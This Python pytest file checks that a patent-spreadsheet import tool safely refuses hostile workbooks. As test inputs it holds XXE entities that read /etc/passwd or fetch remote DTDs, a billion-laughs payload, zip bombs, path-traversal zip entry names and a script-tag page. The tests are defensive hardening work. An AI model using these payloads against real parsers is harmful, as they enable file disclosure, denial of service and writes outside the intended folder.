"""Workbooks that strangers mail: each refused in one clear line, or read for what it is."""

from __future__ import annotations

from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from tests.desktop.clerk import GOOD, Clerk
from tests.forms.exchange.making import ods, old, text_cell
from tests.forms.exchange.making import row as ods_row
from tests.hostile import makers
from tests.hostile.bounded import bounded
from tests.hostile.makers import HEAD, book, packed, sheet_xml, with_doctype, with_parts

ROW = ("ZL202110345678.3", "一种装置")
ENTITY = with_doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]', "<row><c><v>&x;</v></c></row>")
EXTERNAL = with_doctype('SYSTEM "http://203.0.113.1/x.dtd"')
PARAMETER = with_doctype('[<!ENTITY % x SYSTEM "http://203.0.113.1/x"> %x;]')

UNHEARD_OF = '<?xml version="1.0" encoding="x-nothing"?>'
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "加密": (makers.encrypted_workbook, "有密码"),
    "加锁": (makers.locked_zip, "有密码"),
    "截断": (lambda: book(HEAD, ROW)[:-400], "不完整"),
    "只有开头": (lambda: b"PK\x03\x04", "不完整"),
    "旧表格": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, ".xls"),
    "文档": (lambda: packed({"word/document.xml": b"<a/>"}), "Word"),
    "压缩包": (lambda: packed({"清单.xlsx": book(HEAD)}), "压缩文件"),
    "图片": (lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 99, "图片"),
    "程序": (lambda: b"MZ\x90\0\3\0\0\0" * 9, "不是可读取的表格"),
    "网页": (lambda: b"<html><script>alert(1)</script></html>", "网页"),
    "空": (lambda: b"", "空文件"),
    "空表": (lambda: book(), "没有内容"),
    "没有表头": (lambda: book(["甲", "乙"], [1, 2]), "没有专利清单的表头"),
    "实体": (lambda: ENTITY, "已损坏"),
    "外部定义": (lambda: EXTERNAL, "已损坏"),
    "参数实体": (lambda: PARAMETER, "已损坏"),
    "十亿笑": (
        lambda: with_doctype(makers.billion_laughs(), "<row><c><v>&a9;</v></c></row>"),
        "已损坏",
    ),
    "文字里的实体": (
        lambda: with_parts({makers.TEXTS: b'<!DOCTYPE a [<!ENTITY b "c">]><sst/>'}),
        "已损坏",
    ),
    "编码不明的表": (lambda: with_parts({makers.SHEET: sheet_xml("", UNHEARD_OF)}), "已损坏"),
    "编码不明的文字": (
        lambda: with_parts({makers.TEXTS: f"{UNHEARD_OF}<sst/>".encode()}),
        "已损坏",
    ),
    "编码不明的格式": (
        lambda: with_parts({"xl/styles.xml": f"{UNHEARD_OF}<a/>".encode()}),
        "已损坏",
    ),
    "编码不明的开放文档": (
        lambda: packed(
            {
                "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                "content.xml": f"{UNHEARD_OF}<a/>".encode(),
            }
        ),
        "已损坏",
    ),
    "谎报大小": (makers.lying_bomb, "不完整"),
    "远处一格": (makers.far_cell, "第 1048576 行还有内容"),
    "大小写": (lambda: makers.far_cell("xl/worksheets/SHEET1.xml"), "第 1048576 行还有内容"),
    "表在别处": (
        lambda: with_parts({"../sheet1.xml": sheet_xml("")}, without=[makers.SHEET]),
        "已损坏",
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_can_not_be_read_is_refused_in_one_line_and_harms_nothing(
    clerk: Clerk, name: str
) -> None:
    clerk.imports(GOOD)
    before = clerk.types("list", "--json").out
    make, word = REFUSED[name]
    path = clerk.folder / f"{name}.xlsx"
    path.write_bytes(make())
    good = clerk.fills({**GOOD, "专利号": "ZL201910055850.4"}, name="好.xlsx")
    answer = clerk.types("import", good, path)
    assert (answer.code, answer.out) == (2, "")
    [line] = answer.err.splitlines()
    assert f"{name}.xlsx" in line and word in line and line.endswith("。")
    assert clerk.types("list", "--json").out == before


def repeated(columns: int, rows: int, text: str = "长") -> bytes:
    """A spreadsheet whose one cell says that it is many."""
    cell = text_cell(text, f' table:number-columns-repeated="{columns}"')
    return ods(ods_row(cell, more=f' table:number-rows-repeated="{rows}"'))


def far(made: Any) -> None:
    """In the last place that a workbook of before 2007 has, in every row."""
    for place in range(65_536):
        made.get_sheet(0).write(place, 255, 1)


HEAVY: dict[str, Callable[[], bytes]] = {
    "一格重复成百万列": lambda: repeated(1_000_000, 1),
    "一行重复成百万行": lambda: repeated(1, 1_000_000),
    "一格重复成几百万格": lambda: repeated(900, 4_000),
    "长文重复": lambda: repeated(900, 4_000, "长" * 300_000),
    "空格重复": lambda: ods(ods_row(text_cell("<text:s text:c='999999'/>" * 300_000))),
    "旧表格的远处": lambda: old(list(HEAD), fill=far),
    "网页里的百万格": lambda: b"<table><tr>" + b"<td>1" * 3_000_000,
    "网页里的跨行跨列": lambda: b"<table>" + b"<tr><td rowspan=50000 colspan=900>1" * 50_000,
    "网页里的百万属性": lambda: b"<table><tr><td " + b"a=1 " * 3_000_000 + b">x</table>",
    "大比例": makers.ratio_bomb,
    "层层嵌套": makers.nested_bomb,
    "六万部件": makers.many_parts,
    "共享文字": makers.shared_text_bomb,
    "百万元素": makers.many_cells,
    "百万行": makers.million_rows,
}


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="measures memory on Linux")
def test_bombs_are_refused_in_seconds_and_bounded_memory(tmp_path: Path) -> None:
    paths = []
    for name, make in HEAVY.items():
        paths.append(tmp_path / f"{name}.xlsx")
        paths[-1].write_bytes(make())
    for path, told in zip(paths, bounded(paths), strict=True):
        assert path.name in told.sentence and told.sentence.endswith("。"), told
        assert told.cpu_s < 10, told
        assert told.peak_mb < 400, told


def test_macros_links_and_pictures_are_left_behind(clerk: Clerk) -> None:
    macro = {
        "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 AutoOpen",
        "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
        "xl/connections.xml": b"<connections><connection/></connections>",
        "customUI/customUI.xml": b"<customUI/>",
    }
    body = '<row><c t="inlineStr"><is><t>ZL202110345678.3</t></is></c></row>'
    path = clerk.folder / "带宏.xlsm"
    path.write_bytes(with_parts({**macro, makers.SHEET: sheet_xml(body)}))
    answer = clerk.types("import", path, "--json")
    assert answer.code == 0
    assert answer.json["counts"]["new"] == 1


def test_zip_names_that_lead_elsewhere_write_nothing(clerk: Clerk) -> None:
    names = (
        "../../外.xml",
        "/tmp/外.xml",
        "C:\\外.xml",
        "xl/../../外.xml",
        "..\\外.xml",
        "a\0b.xml",
    )
    path = clerk.folder / "路径.xlsx"
    path.write_bytes(with_parts(dict.fromkeys(names, b"<a/>")))
    before = set(clerk.folder.parent.iterdir())
    assert clerk.types("import", path, "--dry-run").code == 0
    assert set(clerk.folder.parent.iterdir()) == before


def test_each_cell_that_can_not_be_read_is_named_and_kept(clerk: Clerk) -> None:
    heads = ["专利号", "发明创造名称", "申请日", "授权公告日", "许可期限届满日", "单次许可期限"]
    path = clerk.folder / "怪.xlsx"
    path.write_bytes(
        book(
            heads,
            ["ZL202110345678.3", "甲", "2021-02-30", 12, 1e300, "＝1+1"],
            ["2.02E+12", "乙", "45000", date(2023, 5, 16), 45000, "3年"],
            ["ZL202110345678.3", "甲（另一份）", 45000, 20230516, "2030-12-31", "#REF!"],
        )
    )
    answer = clerk.types("import", path)
    assert answer.code == 0
    said = [line for line in answer.err.splitlines() if line.startswith("无法识别")]
    for row, column, text in (
        (2, "申请日", "2021-02-30"),
        (2, "授权公告日", "12"),
        (2, "许可期限届满日", "1e+300"),
        (2, "单次许可期限", "1+1"),
        (3, "专利号", "2.02E+12"),
        (3, "申请日", "45000"),
        (4, "单次许可期限", "#REF!"),
    ):
        [line] = [
            one
            for one in said
            if f"第 {row} 行“{column}" in one or (f"第 {row} 行" in one and column in one)
        ]
        assert "“怪.xlsx”工作表“清单”" in line and text in line
    assert len(said) == 7
    checked = clerk.types("check", "--json")
    assert checked.code == 1
    assert "2021年2月30日" in checked.out or "2021-02-30" in checked.out
    assert "number.duplicate" in checked.out
    numeric = clerk.types("show", "2.02E+12", "--json").json
    assert "2023-03-15" in str(numeric)  # 45000 in a cell that is a number


def test_formulas_markup_and_controls_are_plain_text(clerk: Clerk) -> None:
    row = (
        '<row><c t="inlineStr"><is><t>ZL202110345678.3</t></is></c>'
        '<c t="str"><f>HYPERLINK("http://203.0.113.1")</f><v>&lt;b&gt;题&lt;/b&gt;\u202e\u200b</v></c></row>'
        '<row><c t="inlineStr"><is><t>ZL201910055850.4</t></is></c>'
        '<c t="e"><f>A1/0</f><v>#DIV/0!</v></c></row>'
        '<row><c t="inlineStr"><is><t>ZL201810024046.5</t></is></c><c><f>A1</f></c></row>'
    )
    path = clerk.folder / "公式.xlsx"
    path.write_bytes(with_parts({makers.SHEET: sheet_xml(row)}))
    rows = clerk.types("import", path, "--json").json["rows"]
    assert [one["title"] for one in rows] == ["<b>题</b>\u202e", "", ""]
    unread = [one["unread"].get("patent.title") for one in rows]
    assert unread == [None, "#DIV/0!", "（公式没有结果）"]
    checked = clerk.types("check", "ZL202110345678.3")
    assert "‹U+202E›" in checked.out and "\u202e" not in checked.out
    listed = clerk.types("list")
    assert "\u202e" not in listed.out


def test_a_title_of_ten_thousand_characters_goes_all_the_way(clerk: Clerk) -> None:
    clerk.imports({**GOOD, "发明创造名称": "一种" + "很长的" * 3333})
    answer = clerk.types("export", "--out", clerk.folder / "文书", "--paper", "info")
    assert answer.code == 0
    [name] = clerk.names("文书")
    assert len(name) < 100
